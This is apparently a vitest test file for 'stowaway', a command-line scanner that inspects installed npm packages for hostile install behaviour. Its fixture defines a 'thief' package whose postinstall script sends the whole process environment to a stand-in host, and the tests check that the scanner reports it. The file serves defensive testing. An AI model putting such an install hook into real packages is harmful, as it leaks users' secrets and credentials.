import { execFile } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { afterAll, beforeAll, expect, test } from 'vitest';

/** The command as it is installed: built, with workers. `npm ci` and `npm run check` build it. */
const bin = fileURLToPath(new URL('../dist/src/bin.js', import.meta.url));
const run = promisify(execFile);
const project = mkdtempSync(join(tmpdir(), 'stowaway-bin-'));

beforeAll(() => {
  const files = {
    'package.json': '{"name":"app"}',
    'node_modules/thief/package.json': '{"name":"thief","version":"1.0.0","scripts":{"postinstall":"node x.js"}}',
    'node_modules/thief/x.js': `require('https').request('https://collect.invalid').end(JSON.stringify(process.env));`,
    'node_modules/good/package.json': '{"name":"good","version":"1.0.0"}',
    'node_modules/good/index.js': 'module.exports = 1;',
  };
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(project, path)), { recursive: true });
    writeFileSync(join(project, path), text);
  }
  symlinkSync(tmpdir(), join(project, 'node_modules/away'));
});
afterAll(() => rmSync(project, { recursive: true, force: true }));

const command = (...args: readonly string[]) =>
  run(process.execPath, [bin, ...args], { env: { ...process.env, NO_COLOR: '1' } }).then(
    ({ stdout, stderr }) => ({ code: 0, stdout, stderr }),
    ({ code, stdout, stderr }) => ({ code: code as number, stdout: stdout as string, stderr: stderr as string }),
  );

test('a project is scanned by workers, the worst told first, and the exit code says so', async () => {
  const { code, stdout, stderr } = await command(project, '--jobs', '2');
  expect(code).toBe(1);
  expect(stdout).toMatch(/^Scanned 2 packages/);
  expect(stdout).toContain('Sends the whole environment through https.request');
  expect(stderr).toMatch(/^stowaway: not scanned: .*away: a link out of the tree, not followed\n$/);
});

test('one worker or two, the result is the same to the byte', async () => {
  const [one, two] = await Promise.all(
    ['1', '2'].map(jobs => command(project, '--jobs', jobs, '--format', 'json', '--quiet')),
  );
  expect(one?.stdout).toBe(two?.stdout);
  expect(JSON.parse(one?.stdout ?? '').packages).toHaveLength(2);
});

test('what cannot be done is said in one line', async () => {
  expect(await command(join(project, 'nowhere'))).toMatchObject({
    code: 2,
    stdout: '',
    stderr: expect.stringMatching(/^stowaway: [^\n]+\n$/),
  });
  expect(await command('--no-such-flag')).toMatchObject({
    code: 2,
    stdout: '',
    stderr: expect.stringMatching(/^stowaway: [^\n]+\n$/),
  });
});
